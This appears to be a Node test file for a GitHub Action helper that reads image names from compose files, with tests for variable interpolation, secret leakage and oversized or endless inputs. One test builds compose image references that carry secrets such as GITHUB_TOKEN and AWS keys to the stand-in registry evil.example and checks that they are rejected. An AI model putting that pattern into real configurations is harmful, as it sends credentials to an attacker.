import assert from 'node:assert/strict'
import { mkdtemp, rm, symlink, truncate, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { wantedImages } from './wanted-images.ts'

async function wantedBy(t: TestContext, compose: string, env: NodeJS.ProcessEnv) {
  const workspace = await mkdtemp(join(tmpdir(), 'wanted-'))
  t.after(() => rm(workspace, { recursive: true }))
  await writeFile(join(workspace, 'compose.yaml'), compose)
  const inputs = { images: [], composeFiles: ['compose.yaml'], lockFile: '' }
  const { images } = await wantedImages(inputs, workspace, env)
  return images.map(({ written }) => written)
}

test('a compose file gets the variables of the job', async t => {
  for (const name of ['TAG', 'TOKENIZER_VERSION', 'GIT_AUTHOR', 'KEYCLOAK_TAG', 'PATCH', 'COMPASS'])
    assert.deepEqual(
      await wantedBy(t, `services: {a: {image: "app:$${name}"}}`, { [name]: 'v1' }),
      ['app:v1'],
      name,
    )
})

test('a compose file cannot send what is secret, or the action’s alone, to a registry of its choice', async t => {
  for (const name of [
    'GITHUB_TOKEN',
    'TOKEN',
    'NPM_TOKEN',
    'DB_PASSWORD',
    'AWS_SECRET_ACCESS_KEY',
    'AWS_SESSION_TOKEN',
    'CLIENT_SECRET',
    'SIGNING_KEY',
    'ACTIONS_ID_TOKEN_REQUEST_URL',
    'ACTIONS_RUNTIME_TOKEN',
    'INPUT_STORE',
    'db_password',
    'DBPASSWORD',
    'DEPLOY_KEYS',
    'GH_PAT',
    'REGISTRY_PASS',
    'DOCKER_AUTH_CONFIG',
    'SECRETS_JSON',
    'GOOGLE_CREDENTIALS',
  ])
    await assert.rejects(
      wantedBy(t, `services: {a: {image: "evil.example/x:\${${name}}"}}`, { [name]: 'hush' }),
      { code: 'INPUT_INVALID', message: new RegExp(`variable ${name} has no value`) },
      name,
    )
})

test('a list of images that is no plain file is not read', {
  timeout: 10_000,
  skip: process.platform === 'win32' ? 'Windows has no /dev/zero' : false,
}, async t => {
  const workspace = await mkdtemp(join(tmpdir(), 'wanted-'))
  t.after(() => rm(workspace, { recursive: true }))
  await symlink('/dev/zero', join(workspace, 'endless'))
  await assert.rejects(wantedImages({ images: [], composeFiles: ['endless'], lockFile: '' }, workspace, {}), {
    code: 'INPUT_INVALID',
    message: /no plain file/,
  })
  await assert.rejects(wantedImages({ images: [], lockFile: 'endless' }, workspace, {}), {
    code: 'LOCK_INVALID',
    message: /no plain file/,
  })
})

test('a list of images that is larger than any is not read', async t => {
  const workspace = await mkdtemp(join(tmpdir(), 'wanted-'))
  t.after(() => rm(workspace, { recursive: true }))
  await writeFile(join(workspace, 'huge'), '')
  await truncate(join(workspace, 'huge'), 2 ** 33)
  await assert.rejects(wantedImages({ images: [], lockFile: 'huge' }, workspace, {}), {
    code: 'LOCK_INVALID',
    message: /larger than 64 MiB/,
  })
})
